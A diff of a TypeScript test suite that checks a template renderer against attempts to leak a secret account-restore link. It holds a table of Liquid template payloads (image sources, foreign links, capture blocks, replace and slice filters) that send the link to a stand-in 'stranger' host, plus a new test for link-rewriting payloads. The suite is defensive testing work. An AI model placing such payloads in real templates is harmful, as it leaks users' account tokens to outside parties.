@@ -36,7 +36,7 @@ const attacks: Record<string, string> = {
   'the address of a picture, by capture': `{% capture u %}${stranger}/?{{ link }}{% endcapture %}<img src="{{ u }}">`,
   'a foreign link': `<a href="${stranger}/?{{ link }}">x</a>`,
   'an encoded foreign link': `<a href="${stranger}/?{{ link | url_encode }}">x</a>`,
-  'a replaced host': `<a href="{{ link | replace: "localhost:3000", "stranger.example" }}">x</a>`,
+  'a replaced scheme': `<a href="{{ link | replace: 'https://', '${stranger}/?' }}">x</a>`,
   'a link with more behind it': '<a href="{{ link }}&more=1">x</a>',
   'a link with a space before it': '<a href=" {{ link }}">x</a>',
   'the first 20 characters': `<img src="${stranger}/{{ link | slice: 0, 20 }}">`,
@@ -88,3 +88,13 @@ test('takes addresses of the product for secret, whatever they are called in the
   const { html } = await renderer.body('<a href="{{ account.restore }}">x</a>', data, frame);
   expect(html).toContain(link.replace('&', '&amp;'));
 });
+
+test.each(['portal.example.com', secret])(
+  'keeps the link whole when a template replaces %s in it',
+  async (part) => {
+    const source = `<a href="{{ link | replace: '${part}', '${stranger}' }}">x</a>`;
+    const { html } = await renderer.body(source, { link }, frame);
+    expect(html).toContain(link.replace('&', '&amp;'));
+    expect(html).not.toContain(stranger);
+  },
+);
